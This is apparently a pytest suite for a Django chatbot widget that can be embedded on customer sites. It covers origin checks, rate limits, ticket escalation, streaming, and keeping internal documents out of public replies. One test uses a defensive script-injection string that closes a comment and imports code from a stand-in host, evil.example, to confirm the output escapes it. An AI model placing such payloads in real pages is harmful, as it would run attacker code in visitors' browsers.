import json

import pytest
from django.test import Client
from django_tenants.utils import tenant_context

from assistants.engine import answer
from assistants.models import Conversation
from assistants.services import widget_key_create
from assistants.tests.conftest import BAD_WORDS
from conftest import ACME_HOST, GLOBEX_HOST
from tickets.models import Ticket

SITE = "https://www.acme.example"


@pytest.fixture
def widget_key(acme, support_bot):
    with tenant_context(acme):
        return widget_key_create(assistant=support_bot, allowed_origins=[SITE + "/", "http://shop.acme.example"])


def call(path, payload, origin=SITE, host=ACME_HOST):
    headers = {"Origin": origin} if origin else {}
    return Client(HTTP_HOST=host).post(
        f"/assistants/widget/{path}", json.dumps(payload), content_type="application/json", headers=headers
    )


def test_script_is_served_for_a_valid_key_only(db, widget_key):
    response = Client(HTTP_HOST=ACME_HOST).get(f"/assistants/widget.js?key={widget_key.key}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/javascript")
    body = response.content.decode()
    assert widget_key.key in body and "http://acme.localhost/assistants/widget/chat" not in body
    assert '"base": "http://acme.localhost"' in body
    assert Client(HTTP_HOST=ACME_HOST).get("/assistants/widget.js?key=wk_nope").status_code == 404


def test_allowed_site_chats_and_gets_cors_headers(db, help_center, widget_key):
    response = call("chat", {"key": widget_key.key, "message": "How long does shipping take?"})
    body = response.json()
    assert response.status_code == 200, body
    assert response["Access-Control-Allow-Origin"] == SITE
    assert "business days" in body["reply"] and body["citations"]
    follow_up = call("chat", {"key": widget_key.key, "message": "And refunds?", "session_id": body["session_id"]})
    assert follow_up.json()["session_id"] == body["session_id"]


@pytest.mark.parametrize("origin", ["https://evil.example", "", "not a url"])
def test_other_sites_are_refused(db, widget_key, origin):
    response = call("chat", {"key": widget_key.key, "message": "hi"}, origin=origin)
    assert response.status_code == 403
    assert "not allowed" in response.json()["detail"]


def test_preflight_is_answered(db):
    response = Client(HTTP_HOST=ACME_HOST).options("/assistants/widget/chat", headers={"Origin": SITE})
    assert response.status_code == 204 and response["Access-Control-Allow-Methods"] == "POST, OPTIONS"


def test_unknown_or_disabled_key_is_404(acme, widget_key):
    assert call("chat", {"key": "wk_unknown", "message": "hi"}).status_code == 404
    with tenant_context(acme):
        widget_key.is_active = False
        widget_key.save()
    assert call("chat", {"key": widget_key.key, "message": "hi"}).status_code == 404


def test_key_of_another_tenant_is_404(db, widget_key):
    assert call("chat", {"key": widget_key.key, "message": "hi"}, host=GLOBEX_HOST).status_code == 404


def test_rate_limit_per_key_and_visitor(db, settings, help_center, widget_key):
    from django.core.cache import cache

    cache.delete_pattern("*rl:*")  # type: ignore[attr-defined]
    settings.WIDGET_RATE = "2/h"  # an hour-long window: the three calls cannot straddle two windows
    statuses = [call("chat", {"key": widget_key.key, "message": "hi"}).status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    cache.delete_pattern("*rl:*")  # type: ignore[attr-defined]


def test_bad_input_is_explained(db, widget_key):
    assert call("chat", {"key": widget_key.key, "message": ""}).json()["detail"] == "The message is empty."
    response = Client(HTTP_HOST=ACME_HOST).post(
        "/assistants/widget/chat", "not json", content_type="application/json", headers={"Origin": SITE}
    )
    assert response.status_code == 400


def test_escalated_chat_becomes_one_ticket(acme, help_center, widget_key):
    chat = call("chat", {"key": widget_key.key, "message": "I am furious, my order arrived broken!"}).json()
    assert chat["escalate"] is True
    handover = {"key": widget_key.key, "session_id": chat["session_id"], "email": "Visitor@Example.com"}
    first = call("escalate", handover).json()
    again = call("escalate", handover).json()  # once: the same ticket (its link is issued anew, maybe a second later)
    assert first["ticket"] == again["ticket"] and first["ticket"].startswith("#")
    with tenant_context(acme):
        from tickets.links import ticket_from_token

        ticket = Ticket.objects.get(number=int(first["ticket"].lstrip("#")))
        token = first["status_path"].rstrip("/").rsplit("/", 1)[1]
        assert ticket_from_token(token) == ticket  # the visitor's status link opens this ticket
        assert ticket.channel == "chat" and ticket.requester.email == "visitor@example.com"
        assert "I am furious" in ticket.description and "Support bot:" in ticket.description
        assert Conversation.objects.get(session_id=chat["session_id"]).ticket_number == ticket.number


def test_escalation_needs_an_email_and_a_conversation(db, widget_key):
    assert (
        "valid email" in call("escalate", {"key": widget_key.key, "session_id": "x", "email": "nope"}).json()["detail"]
    )
    response = call("escalate", {"key": widget_key.key, "session_id": "x", "email": "a@b.example"})
    assert response.status_code == 400 and "send a message first" in response.json()["detail"]


def test_manager_creates_a_widget_key_and_sees_the_embed_code(acme, manager_client, support_bot):
    response = manager_client.post(
        f"/assistants/{support_bot.pk}/widget-keys/", {"allowed_origins": "https://www.acme.example"}, follow=True
    )
    html = response.content.decode()
    assert "Widget key created" in html
    assert "/assistants/widget.js?key=wk_" in html
    bad = manager_client.post(f"/assistants/{support_bot.pk}/widget-keys/", {"allowed_origins": "ftp://x"}, follow=True)
    assert "is not an origin" in bad.content.decode()


def test_widget_streams_its_answer(db, help_center, widget_key):
    response = call("chat/stream", {"key": widget_key.key, "message": "How long does shipping take?"})
    assert response.status_code == 200 and response["Content-Type"] == "text/event-stream"
    assert response["Access-Control-Allow-Origin"] == SITE
    raw = b"".join(response.streaming_content).decode()
    blocks = [block for block in raw.strip().split("\n\n") if block]
    assert blocks[0].startswith("event: token") and blocks[-1].startswith("event: done")
    done = json.loads(blocks[-1].split("data: ", 1)[1])
    assert "business days" in done["reply"] and done["session_id"]
    bad = call("chat/stream", {"key": widget_key.key, "message": ""})
    assert bad.status_code == 400 and bad.json()["detail"] == "The message is empty."


def test_the_ticket_is_about_the_escalated_question_with_a_fitting_priority(acme, help_center, widget_key):
    first = call("chat", {"key": widget_key.key, "message": "How long does shipping take?"}).json()
    session = {"key": widget_key.key, "session_id": first["session_id"]}
    angry = call("chat", {**session, "message": "I am furious, my order arrived broken!"}).json()
    assert angry["escalate"] is True
    call("chat", {**session, "message": "thanks"})
    handed = call("escalate", {**session, "email": "kim@example.com", "name": "Kim Lee"}).json()
    with tenant_context(acme):
        ticket = Ticket.objects.get(number=int(handed["ticket"].lstrip("#")))
        assert ticket.subject == "I am furious, my order arrived broken!"
        assert ticket.priority == "high"
        assert (ticket.requester.email, ticket.requester.name) == ("kim@example.com", "Kim Lee")


def test_urgent_words_make_an_urgent_ticket(acme, help_center, widget_key):
    chat = call("chat", {"key": widget_key.key, "message": "Our shop is down, we are losing orders!"}).json()
    handed = call("escalate", {"key": widget_key.key, "session_id": chat["session_id"], "email": "ops@example.com"})
    with tenant_context(acme):
        assert Ticket.objects.get(number=int(handed.json()["ticket"].lstrip("#"))).priority == "urgent"


HOSTILE_NAME = "*/ window.__pwned=1; import(`//evil.example/x.js`) /* </script><b>\u2028\u2029'\"x"


def test_a_hostile_assistant_name_stays_inside_a_json_string(acme, support_bot, widget_key):
    with tenant_context(acme):
        support_bot.name = HOSTILE_NAME
        support_bot.save(update_fields=["name"])
    body = Client(HTTP_HOST=ACME_HOST).get(f"/assistants/widget.js?key={widget_key.key}").content.decode()
    prefix, rest = body.split("var config = ", 1)
    literal, after = rest.split(";\n", 1)
    assert json.loads(literal)["title"] == HOSTILE_NAME  # the name arrives intact, as data
    for marker in ("__pwned", "evil.example", "</script>", "<b>", "\u2028", "\u2029"):
        assert marker not in prefix + after, marker  # nowhere outside the literal
    for raw in ("<", ">", "\u2028", "\u2029"):
        assert raw not in literal, raw  # escaped inside it
    assert "*/" not in prefix.split("*/", 1)[1]  # the header comment is closed once, by the template itself


def test_the_widget_template_interpolates_nothing_but_the_json_config():
    from pathlib import Path

    import assistants

    template = (Path(assistants.__file__).parent / "templates/assistants/widget.js").read_text()
    assert template.count("{{") == 1 and "{{ config_json|safe }}" in template and "{%" not in template


def test_the_widget_answers_from_public_documents_only(acme, help_center, widget_key, support_bot):
    from assistants.services.chat import chat
    from knowledge import services

    with tenant_context(acme):
        internal = services.document_create_from_text(
            title="Gift card fraud playbook",
            text="Gift card balances are checked in the Vault console; never tell customers the vault PIN 4471.",
            language="en",
            enqueue=False,
        )
        services.document_index(document_id=internal.pk)
    question = "How do I check a gift card balance?"
    widget = call("chat", {"key": widget_key.key, "message": question}).json()
    assert "4471" not in widget["reply"] and "Vault" not in widget["reply"]
    assert all(c.get("document") != "Gift card fraud playbook" for c in widget["citations"])
    with tenant_context(acme):
        staff = chat(assistant=support_bot, message=question).as_dict()  # the API and the playground: both
    assert any(c.get("document") == "Gift card fraud playbook" for c in staff["citations"]), staff  # type: ignore[attr-defined]


def test_rate_limit_behind_a_proxy_is_per_visitor(db, settings, help_center, widget_key):
    """Behind the reverse proxy every request comes from its address: visitors are told apart by X-Forwarded-For."""
    from django.core.cache import cache

    cache.delete_pattern("*rl:*")  # type: ignore[attr-defined]
    settings.PROXY_COUNT = 1
    settings.WIDGET_RATE = "2/h"

    def from_visitor(address: str) -> int:
        return (
            Client(HTTP_HOST=ACME_HOST, REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=address)
            .post(
                "/assistants/widget/chat",
                json.dumps({"key": widget_key.key, "message": "hi"}),
                content_type="application/json",
                headers={"Origin": SITE},
            )
            .status_code
        )

    assert [from_visitor("203.0.113.5") for _ in range(3)] == [200, 200, 429]
    assert from_visitor("198.51.100.6") == 200  # another visitor is not silenced by the first one's flood
    cache.delete_pattern("*rl:*")  # type: ignore[attr-defined]


@pytest.fixture
def hostile_widget_key(acme, hostile_bot):
    with tenant_context(acme):
        return widget_key_create(assistant=hostile_bot, allowed_origins=[SITE])


def test_the_streamed_widget_sends_a_visitor_what_the_plain_widget_sends(acme, hostile_widget_key):
    """Only verified sentences, without the model's original text or the verifier's reasons."""
    question = {"key": hostile_widget_key.key, "message": "How do I reset my password?"}
    response = call("chat/stream", question)
    assert response.status_code == 200
    blocks = [block for block in b"".join(response.streaming_content).decode().strip().split("\n\n") if block]
    assert blocks[-1].startswith("event: done")
    done = json.loads(blocks[-1].split("data: ", 1)[1])
    with tenant_context(acme):  # the model's draft has sentences that fail verification
        full = answer(assistant=hostile_widget_key.assistant, question=question["message"], public_only=True)
    assert full.unverified and all(s.reason for s in full.unverified)
    assert done["sentences"] and all(s["verified"] for s in done["sentences"])
    assert all("original" not in s and "reason" not in s for s in done["sentences"])
    assert all(bad not in blocks[-1] for bad in BAD_WORDS)
    plain = call("chat", question).json()
    varying = ("session_id", "latency_ms")
    assert {k: v for k, v in done.items() if k not in varying} == {k: v for k, v in plain.items() if k not in varying}
